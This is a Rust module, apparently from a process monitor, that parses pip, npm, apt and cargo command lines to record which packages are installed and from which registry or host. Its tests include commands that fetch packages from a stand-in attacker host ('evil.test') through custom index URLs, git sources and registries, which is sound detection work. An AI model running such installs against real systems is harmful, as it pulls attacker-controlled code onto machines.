//! Package installs, read from the argument vector of a process the kernel saw start: which
//! packages a `pip install`, `npm install`, `apt-get install` or `cargo install` names, and
//! where from. A bare `npm install` or `pip install -r requirements.txt` installs the project's
//! own dependencies and names nothing.

use serde::Serialize;

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Install {
    pub ecosystem: &'static str,
    pub packages: Vec<Package>,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Package {
    /// The package name, normalized; or the whole spec for a URL, path or git source.
    pub name: String,
    /// Where it comes from when that is not the ecosystem's registry: a URL, path, git remote or
    /// the host of an index given on the command line.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
}

/// Programs that install packages (what they and their children write is charged as a
/// package's, not the agent's).
pub const MANAGERS: &[&str] = &[
    "apt", "apt-get", "aptitude", "dpkg", "pip", "pip3", "npm", "pnpm", "yarn", "cargo",
];

/// Whether `program` (a program's name) installs packages.
pub fn is_manager(program: &str) -> bool {
    MANAGERS.contains(&program)
}

/// Names compare as the ecosystem does: pip folds case and `-_.`; the others are exact.
pub fn normalize(ecosystem: &str, name: &str) -> String {
    if ecosystem == "pip" {
        name.to_ascii_lowercase().replace(['_', '.'], "-")
    } else {
        name.to_string()
    }
}

fn base(arg: &str) -> &str {
    arg.rsplit('/').next().unwrap_or(arg)
}

/// The install a command line performs, if it is one.
pub fn install_of(argv: &[String]) -> Option<Install> {
    let program = base(argv.first()?);
    // Interpreted tools run as `python3 /usr/bin/pip …`, `node /usr/bin/npm …`.
    let (tool, rest) = if program.starts_with("python") {
        match argv.get(1).map(String::as_str) {
            Some("-m") => (argv.get(2)?.as_str(), &argv[3..]),
            Some(script) => (base(script), &argv[2..]),
            None => return None,
        }
    } else if program == "node" || program == "nodejs" {
        (base(argv.get(1)?), &argv[2..])
    } else {
        (program, &argv[1..])
    };
    let tool = tool.trim_end_matches(".js").trim_end_matches(".cjs");
    if tool == "pip" || tool.starts_with("pip3") {
        pip(rest)
    } else if matches!(tool, "npm" | "npm-cli" | "pnpm" | "yarn") {
        npm(tool, rest)
    } else if matches!(tool, "apt" | "apt-get" | "aptitude") {
        apt(rest)
    } else if tool == "cargo" {
        cargo(rest)
    } else {
        None
    }
}

/// Splits arguments after the subcommand into positionals and the values of `valued` options.
fn positionals<'a>(
    args: &'a [String],
    valued: &[&'static str],
) -> (Vec<&'a str>, Vec<(&'a str, &'a str)>) {
    let mut positional = Vec::new();
    let mut options = Vec::new();
    let mut iter = args.iter().map(String::as_str);
    while let Some(arg) = iter.next() {
        if arg == "--" {
            positional.extend(iter.by_ref());
            break;
        }
        if let Some((name, value)) = arg.split_once('=').filter(|_| arg.starts_with("--")) {
            options.push((name, value));
        } else if valued.contains(&arg) {
            if let Some(value) = iter.next() {
                options.push((arg, value));
            }
        } else if let Some(short) = valued
            .iter()
            .find(|opt| opt.len() == 2 && arg.len() > 2 && arg.starts_with(*opt))
        {
            options.push((short, &arg[2..]));
        } else if !arg.starts_with('-') {
            positional.push(arg);
        }
    }
    (positional, options)
}

fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = host.split(':').next()?;
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// The host a downloader's argument points at: `https://host/...`, or `host.tld/...` as curl
/// and wget also accept.
pub fn url_host(arg: &str) -> Option<String> {
    if arg.starts_with('-') {
        return None;
    }
    if arg.contains("://") {
        return host_of(arg);
    }
    let head = arg.split('/').next()?;
    let host = head.split(':').next()?;
    let looks_like_host = host.contains('.')
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
    (looks_like_host && arg.contains('/')).then(|| host.to_ascii_lowercase())
}

/// The host of a package source (a URL, a git remote), or the source itself.
pub fn host_or_self(source: &str) -> String {
    host_of(source).unwrap_or_else(|| source.to_string())
}

fn is_location(spec: &str) -> bool {
    spec.contains("://")
        || spec.starts_with("git+")
        || spec.starts_with('.')
        || spec.starts_with('/')
        || spec.starts_with('~')
        || [".whl", ".tar.gz", ".tgz", ".zip", ".deb"]
            .iter()
            .any(|ext| spec.ends_with(ext))
}

fn pip(args: &[String]) -> Option<Install> {
    let sub = args.iter().position(|arg| !arg.starts_with('-'))?;
    if args[sub] != "install" {
        return None;
    }
    const VALUED: &[&str] = &[
        "-r",
        "--requirement",
        "-c",
        "--constraint",
        "-e",
        "--editable",
        "-i",
        "--index-url",
        "--extra-index-url",
        "-f",
        "--find-links",
        "-t",
        "--target",
        "--prefix",
        "--root",
        "--trusted-host",
        "--platform",
        "--python-version",
        "--implementation",
        "--abi",
        "--src",
        "--upgrade-strategy",
        "--progress-bar",
        "--cache-dir",
        "--log",
        "--proxy",
        "--retries",
        "--timeout",
        "--exists-action",
        "--cert",
        "--client-cert",
        "--no-binary",
        "--only-binary",
        "-C",
        "--config-settings",
        "--python",
    ];
    let (specs, options) = positionals(&args[sub + 1..], VALUED);
    let index = options
        .iter()
        .filter(|(name, _)| {
            matches!(
                *name,
                "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links"
            )
        })
        .map(|(_, value)| host_of(value).unwrap_or_else(|| value.to_string()))
        .next();
    let packages = specs
        .into_iter()
        .map(|spec| {
            if is_location(spec) {
                return Package {
                    name: spec.to_string(),
                    source: Some(spec.to_string()),
                };
            }
            let name = spec
                .split(['<', '>', '=', '!', '~', ';', '[', ' ', '@'])
                .next()
                .unwrap_or(spec);
            Package {
                name: normalize("pip", name),
                source: index.clone(),
            }
        })
        .collect();
    Some(Install {
        ecosystem: "pip",
        packages,
    })
}

fn npm(tool: &str, args: &[String]) -> Option<Install> {
    let sub = args.iter().position(|arg| !arg.starts_with('-'))?;
    let installs = match tool {
        "yarn" => matches!(args[sub].as_str(), "add"),
        _ => matches!(
            args[sub].as_str(),
            "install" | "i" | "add" | "isntall" | "in" | "ins" | "inst" | "insta" | "instal"
        ),
    };
    if !installs {
        return None;
    }
    const VALUED: &[&str] = &[
        "--registry",
        "--prefix",
        "-w",
        "--workspace",
        "--tag",
        "--cache",
        "--userconfig",
    ];
    let (specs, options) = positionals(&args[sub + 1..], VALUED);
    let registry = options
        .iter()
        .find(|(name, _)| *name == "--registry")
        .map(|(_, value)| host_of(value).unwrap_or_else(|| value.to_string()));
    let packages = specs
        .into_iter()
        .map(|spec| {
            let shorthand = !spec.starts_with('@') && spec.contains('/') && !spec.contains(':');
            if is_location(spec) || spec.contains(':') || shorthand {
                return Package {
                    name: spec.to_string(),
                    source: Some(spec.to_string()),
                };
            }
            // `name@range`, `@scope/name@range`.
            let name = match spec.strip_prefix('@') {
                Some(rest) => format!("@{}", rest.split('@').next().unwrap_or(rest)),
                None => spec.split('@').next().unwrap_or(spec).to_string(),
            };
            Package {
                name,
                source: registry.clone(),
            }
        })
        .collect();
    Some(Install {
        ecosystem: "npm",
        packages,
    })
}

fn apt(args: &[String]) -> Option<Install> {
    const VALUED: &[&str] = &[
        "-t",
        "--target-release",
        "-o",
        "--option",
        "-c",
        "--config-file",
    ];
    let (words, _) = positionals(args, VALUED);
    let (sub, specs) = words.split_first()?;
    if *sub != "install" {
        return None;
    }
    let packages = specs
        .iter()
        .map(|spec| {
            if is_location(spec) {
                return Package {
                    name: spec.to_string(),
                    source: Some(spec.to_string()),
                };
            }
            let name = spec.split(['=', '/']).next().unwrap_or(spec);
            let name = name.split(':').next().unwrap_or(name);
            Package {
                name: name.to_string(),
                source: None,
            }
        })
        .collect();
    Some(Install {
        ecosystem: "apt",
        packages,
    })
}

fn cargo(args: &[String]) -> Option<Install> {
    const VALUED: &[&str] = &[
        "--git",
        "--path",
        "--registry",
        "--index",
        "--version",
        "--root",
        "--features",
        "-F",
        "--branch",
        "--tag",
        "--rev",
        "-j",
        "--jobs",
        "--target",
        "--profile",
        "--bin",
        "--example",
    ];
    let (words, options) = positionals(args, VALUED);
    let (sub, crates) = words.split_first()?;
    if *sub != "install" {
        return None;
    }
    let source = options
        .iter()
        .find(|(name, _)| matches!(*name, "--git" | "--path" | "--registry" | "--index"))
        .map(|(_, value)| value.to_string());
    Some(Install {
        ecosystem: "cargo",
        packages: crates
            .iter()
            .map(|name| Package {
                name: name.split('@').next().unwrap_or(name).to_string(),
                source: source.clone(),
            })
            .collect(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(line: &str) -> Vec<String> {
        line.split_whitespace().map(String::from).collect()
    }

    fn names(line: &str) -> Vec<(String, Option<String>)> {
        install_of(&argv(line))
            .map(|install| {
                install
                    .packages
                    .into_iter()
                    .map(|p| (p.name, p.source))
                    .collect()
            })
            .unwrap_or_default()
    }

    #[test]
    fn project_dependencies_name_nothing() {
        for line in [
            "npm install",
            "npm ci",
            "pip install -r requirements.txt",
            "pip3 install -e .",
            "python3 -m pip install --upgrade -r req.txt",
            "yarn",
            "yarn install",
            "apt-get update",
        ] {
            assert!(names(line).is_empty(), "{line}");
        }
        assert!(install_of(&argv("pip list")).is_none());
        assert!(install_of(&argv("ls -l")).is_none());
    }

    #[test]
    fn named_packages_and_their_sources() {
        assert_eq!(
            names("pip install Requests==2.31 flask[async]>=3 -q"),
            vec![("requests".into(), None), ("flask".into(), None)]
        );
        assert_eq!(
            names("python3 /usr/bin/pip3 install -i https://evil.test/simple x"),
            vec![("x".into(), Some("evil.test".into()))]
        );
        assert_eq!(
            names("pip install git+https://evil.test/x.git"),
            vec![(
                "git+https://evil.test/x.git".into(),
                Some("git+https://evil.test/x.git".into())
            )]
        );
        assert_eq!(
            names("node /usr/lib/node_modules/npm/bin/npm-cli.js i lodash@4 @types/node@20 -D"),
            vec![("lodash".into(), None), ("@types/node".into(), None)]
        );
        assert_eq!(
            names("npm install user/repo"),
            vec![("user/repo".into(), Some("user/repo".into()))]
        );
        assert_eq!(
            names("npm install --registry=http://evil.test:4873 left-pad"),
            vec![("left-pad".into(), Some("evil.test".into()))]
        );
        assert_eq!(
            names("apt-get install -y --no-install-recommends jq=1.6 netcat-openbsd"),
            vec![("jq".into(), None), ("netcat-openbsd".into(), None)]
        );
        assert_eq!(
            names("cargo install --git https://evil.test/x tool"),
            vec![("tool".into(), Some("https://evil.test/x".into()))]
        );
    }
}
